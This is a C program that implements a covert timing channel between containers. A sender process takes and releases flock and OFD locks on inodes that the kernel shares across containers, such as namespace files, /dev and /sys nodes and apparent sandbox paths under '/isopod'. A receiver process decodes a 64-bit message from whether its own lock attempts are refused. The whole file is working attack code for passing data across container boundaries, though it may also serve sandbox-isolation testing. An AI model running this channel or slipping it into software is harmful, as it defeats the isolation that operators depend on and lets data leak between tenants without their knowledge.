#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/signalfd.h>
#include <sys/stat.h>
#include <sys/timerfd.h>
#include <time.h>
#include <unistd.h>

/*
 * Some inodes exist once in the whole kernel: the one of all anonymous descriptors, those of namespaces that containers
 * share, and what the engine mounts into each. Every container sees a lock on such an inode.
 */
static int open_one(int number) {
  const char *paths[] = {"/proc/self/ns/user", "/proc/self/ns/time", "/proc/self/ns/cgroup", "/proc/self/ns/pid", "/proc/self/ns/uts", "/sys/kernel/notes", "/sys/fs/cgroup", "/proc/version", "/proc/sys/kernel/ostype", "/dev/null", "/dev/zero", "/dev/urandom", "/isopod", "/isopod/init", "/etc/hosts", "/sys/devices/system/cpu/online", "/proc/1/ns/user", "/sys/module", "/sys/class", "/", "/dev/full", "/dev/mqueue", "/dev/pts", "/proc/self/exe"};
  sigset_t none;
  sigemptyset(&none);
  switch (number) {
    case 0: return eventfd(0, 0);
    case 1: return epoll_create1(0);
    case 2: return timerfd_create(CLOCK_MONOTONIC, 0);
    case 3: return signalfd(-1, &none, 0);
    case 4: return inotify_init1(0);
    default: return number - 5 < (int)(sizeof paths / sizeof *paths) ? open(paths[number - 5], O_RDONLY) : -2;
  }
}

static int take(int fd, int kind) {
  struct flock range = {.l_type = kind == 2 ? F_WRLCK : F_RDLCK, .l_whence = SEEK_SET, .l_start = 7, .l_len = 1};
  return kind == 0 ? flock(fd, LOCK_EX | LOCK_NB) : fcntl(fd, F_OFD_SETLK, &range);
}

static void drop(int fd, int kind) {
  struct flock range = {.l_type = F_UNLCK, .l_whence = SEEK_SET, .l_start = 7, .l_len = 1};
  if (kind == 0) flock(fd, LOCK_UN);
  else fcntl(fd, F_OFD_SETLK, &range);
}

int main(void) {
  char role[16], message[32], start_time[32];
  if (scanf("%*s %15s %*s %31s %*s %31s", role, message, start_time) != 3) return 1;
  const long slot = 8000000;
  uint64_t bits = strtoull(message, NULL, 16);
  for (int kind = 0; kind < 3; kind += 2) {
    uint64_t found[64] = {0};
    int fds[64], count = 0;
    while ((fds[count] = open_one(count)) != -2) count++;
    struct timespec next = {(time_t)atof(start_time) + kind / 2, 0};
    for (int bit = 63; bit >= 0; bit--) {
      clock_nanosleep(CLOCK_REALTIME, TIMER_ABSTIME, &next, NULL);
      int sending = strcmp(role, "sender") == 0;
      for (int i = 0; i < count; i++) {
        if (fds[i] < 0) continue;
        if (sending) {
          drop(fds[i], kind);
          if (bits >> bit & 1) take(fds[i], kind);
        }
      }
      struct timespec middle = {next.tv_sec, next.tv_nsec + slot / 2};
      clock_nanosleep(CLOCK_REALTIME, TIMER_ABSTIME, &middle, NULL);
      for (int i = 0; i < count && !sending; i++) {
        if (fds[i] < 0) continue;
        int refused = take(fds[i], kind) < 0;
        drop(fds[i], kind);
        found[i] = found[i] << 1 | (uint64_t)refused;
      }
      next.tv_nsec += slot;
    }
    for (int i = 0; i < count && strcmp(role, "receiver") == 0; i++) printf("GOT %016llx by inode %d kind %d\n", (unsigned long long)found[i], i, kind);
  }
  return 0;
}
